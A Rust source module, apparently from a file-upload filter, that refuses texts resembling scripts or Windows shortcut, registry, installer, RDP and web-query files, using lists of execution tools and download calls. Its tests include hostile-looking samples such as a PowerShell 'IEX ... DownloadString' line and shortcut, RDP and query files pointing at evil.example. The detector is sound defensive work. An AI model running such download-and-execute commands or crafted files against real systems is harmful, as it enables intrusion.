//! Scripts, and files of orders: texts that a program does what they say when somebody opens them.
//!
//! They are known by lines that they begin with, anywhere in a text. That finds what scripts do to start something or to
//! fetch it; no list finds every script, since almost any line is one for some program. So names are looked at as well
//! ([`is_run_by_name`](crate::is_run_by_name)), and the new name of a text is none that is run.

use crate::{
    markup::is_nothing,
    verdict::{Reason, Refusal},
};

/// What the first line that is not empty begins with.
const FIRST: &[(&str, Reason)] = &[
    ("#!", Reason::Program),
    ("id;", Reason::NotAllowed),
    ("{\\rtf", Reason::NotAllowed),
    ("%!ps", Reason::NotAllowed),
    ("xlodbc", Reason::NotAllowed),
    ("querytype=", Reason::NotAllowed),
];

/// What a line of a file begins with that a program follows when it is opened: links, settings, connections, mails as pages.
const ORDERS: &[(&str, Reason)] = &[
    ("[internetshortcut", Reason::NotAllowed),
    ("[{000214a0", Reason::NotAllowed),
    ("[desktop entry", Reason::NotAllowed),
    ("[shell]", Reason::NotAllowed),
    ("[autorun", Reason::NotAllowed),
    ("[.shellclassinfo", Reason::NotAllowed),
    ("[oledb]", Reason::NotAllowed),
    ("[defaultinstall", Reason::NotAllowed),
    ("[wfclient]", Reason::NotAllowed),
    ("windows registry editor", Reason::NotAllowed),
    ("regedit4", Reason::NotAllowed),
    ("full address:s:", Reason::NotAllowed),
    ("remoteapplication", Reason::NotAllowed),
    ("mime-version:", Reason::Page),
];

/// What a line of a script begins with that starts something.
const LINES: &[&str] = &[
    "echo off",
    "setlocal",
    "powershell",
    "pwsh ",
    "cmd /",
    "cmd.exe",
    "mshta",
    "rundll32",
    "regsvr32",
    "wscript",
    "cscript",
    "certutil",
    "bitsadmin",
    "msiexec",
    "schtasks",
    "wmic ",
    "reg add ",
    "reg delete ",
    "reg import ",
    "net use ",
    "net user ",
    "start /",
    "start \"",
    "if exist ",
    "if not exist ",
    "if errorlevel ",
    "for /",
    "for %",
    "del /",
    "erase /",
    "rd /",
    "rmdir /",
    "taskkill ",
    "exit /b",
    "goto :",
    "set-executionpolicy",
    "start-process",
    "invoke-",
    "iex ",
    "iex(",
    "iwr ",
    "add-type ",
    "option explicit",
    "on error resume next",
    "set-alias ",
    "import os",
    "import subprocess",
    "import socket",
    "import ctypes",
    "import sys",
    "from os import",
    "from subprocess import",
    "exec(",
    "eval(",
    "execute(",
    "execute ",
];

/// What stands anywhere in a script that reaches for the machine.
const CALLS: &[&str] = &[
    "createobject(",
    "getobject(",
    "activexobject",
    "wscript.shell",
    "wscript.createobject",
    "executeglobal",
    "shellexecute",
    "downloadstring(",
    "downloadfile(",
    "invoke-expression",
    "invoke-webrequest",
    "frombase64string(",
    "-encodedcommand",
    "java.lang.runtime",
    "child_process",
];

/// Refuses a text that is a script or a file of orders, as far as its lines tell it.
pub(crate) fn check(letters: &str) -> Result<(), Refusal> {
    let text = letters.to_ascii_lowercase();
    let begun = text.trim_start_matches(is_nothing);
    if let Some((found, reason)) = FIRST.iter().find(|(begin, _)| begun.starts_with(begin)) {
        return Err(Refusal::new(*reason, *found));
    }
    let mut lines = begun.lines().map(str::trim);
    if lines.next() == Some("web") && lines.next().is_some_and(|version| version == "1") {
        return Err(Refusal::new(Reason::NotAllowed, "a query of a page"));
    }
    if let Some(found) = CALLS.iter().find(|call| text.contains(**call)) {
        return Err(Refusal::new(Reason::Program, *found));
    }
    let (mut has_version, mut has_signature) = (false, false);
    for line in text.split(['\n', '\r', '\u{b}', '\u{c}']) {
        let line = line.trim_start_matches(is_nothing);
        if let Some((found, reason)) = ORDERS.iter().find(|(begin, _)| line.starts_with(begin)) {
            return Err(Refusal::new(*reason, *found));
        }
        has_version |= line.starts_with("[version]");
        has_signature |= line.starts_with("signature");
        // Before an order: what keeps it from being shown, what groups it, what quotes its path.
        let order = line.trim_start_matches(|letter: char| {
            matches!(letter, '@' | '(' | '&' | '"' | '\'') || is_nothing(letter)
        });
        if let Some(found) = LINES.iter().find(|begin| order.starts_with(**begin)) {
            return Err(Refusal::new(Reason::Program, *found));
        }
    }
    match has_version && has_signature {
        true => Err(Refusal::new(Reason::NotAllowed, "what Windows installs by")),
        false => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_and_files_of_orders_are_known_wherever_their_lines_stand() {
        let refused = [
            "@echo off\r\npowershell -enc AAAA",
            "@powershell -enc AAAA",
            "CreateObject(\"WScript.Shell\").Run \"calc\"",
            "new ActiveXObject('x')",
            "x = 1\nIEX (New-Object Net.WebClient).DownloadString('http://x')",
            "import os\nos.system('calc')",
            "; comment\r\n[InternetShortcut]\r\nURL=file://evil.example/s/run.exe",
            "Windows Registry Editor Version 5.00",
            "REGEDIT4",
            "[Version]\r\nSignature=\"$CHICAGO$\"",
            "full address:s:evil.example",
            "[Shell]\nCommand=2\nIconFile=\\\\evil\\x.ico",
            "X-A: y\r\nMIME-Version: 1.0\r\nContent-Type: text/html",
        ];
        let first =
            ["#!/bin/sh\nrm x", "ID;PWXL;N;E", "WEB\r\n1\r\nhttp://evil.example/x", "{\\rtf1}", "%!PS"];
        for text in refused.iter().chain(&first) {
            for before in ["", "\u{feff}\u{feff}", "\r\n \t\r\n"] {
                assert!(check(&format!("{before}{text}")).is_err(), "{text}");
            }
        }
        for text in refused {
            assert!(check(&format!("{}\r\n{text}", "x".repeat(9_000))).is_err(), "{text}");
        }
    }

    #[test]
    fn letters_lists_and_settings_pass() {
        for text in [
            "- 橋の点検 (国道)\n- 完了!",
            "web サイトの更新\n1 件",
            "[section]\nkey=value\n[version]\nnumber=1",
            "Start the service at 9.\nFor details call 076-220-2111.\nSet the date. Del the old one.",
            "\\\\fs1\\土木\\図面.dwg にあります。",
            "{\"command\":\"start\"}",
            "import of goods, internal executives",
        ] {
            assert!(check(text).is_ok(), "{text}");
        }
    }
}
